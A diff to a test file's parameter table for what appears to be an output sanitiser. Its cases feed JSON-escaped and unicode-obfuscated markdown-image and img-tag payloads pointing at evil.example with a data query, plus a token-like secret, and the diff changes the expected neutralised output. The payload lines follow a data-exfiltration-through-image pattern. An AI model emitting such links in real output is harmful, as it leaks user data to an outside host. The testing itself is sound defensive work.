@@ -23,9 +23,9 @@ SECRET_WORDS = "\n".join(f"word{n}" for n in range(40))
     ("text", "output", "guard"),
     [
         ('{"x":"gh\\u0070_%s"}' % KEY[4:], "ghp_[secret removed]", "secret"),  # noqa: UP031
-        ('{"x":"![a](https:\\/\\/evil.example\\/p?d=s)"}', "![a](about:blank)", "link"),
-        ('{"x":"!\\u005ba](https:\\u002f\\u002fevil.example/p?d=s)"}', "![a](about:blank)", "link"),
-        ('{"x":"<img src=\\"\\u0068ttps://evil.example/\\">"}', '<img src="about:blank">', "link"),
+        ('{"x":"![a](https:\\/\\/evil.example\\/p?d=s)"}', "! [a](https://evil.example/p?d=s)", "link"),
+        ('{"x":"!\\u005ba](https:\\u002f\\u002fevil.example/p?d=s)"}', "! [a](https://evil.example/p?d=s)", "link"),
+        ('{"x":"<img src=\\"\\u0068ttps://evil.example/\\">"}', '< img src="https://evil.example/">', "link"),
         ('{"x":"\\ud83d\\ude00 caf\\u00e9 \\n\\u0022"}', '\U0001f600 café \n"', None),
     ],
 )  # fmt: skip
